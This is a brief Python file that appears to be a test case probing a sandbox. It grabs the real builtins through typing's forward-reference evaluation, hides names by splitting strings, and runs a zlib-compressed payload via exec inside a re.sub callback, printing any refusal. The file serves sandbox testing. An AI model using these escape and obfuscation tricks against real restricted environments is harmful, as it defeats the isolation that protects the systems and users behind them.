# eval: a zlib-compressed payload run by re.sub's frame through partial(exec)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import re, functools, zlib
p = zlib.decompress(b'x\x9c\x8b.(\xca\xcc+\xd1P\x0f\x08\xf7SW\xd0VPwuQ\xd7Q\x88\x8f\xcf\xcc-\xc8/*\x89\x8f\xd7P\xcf/V\xd7\xd4KO-)\xc8L\xd1\xd0\xd4TH\xcb/R\x88W\xc8\xccS\xd00\xd4\xd1\x8c\x05\x00N=\x12G').decode()
try:
    re.sub("x", functools.partial(rb["exec"], p, {}), "x")
except Exception as e:
    print("refused:", type(e).__name__, e)
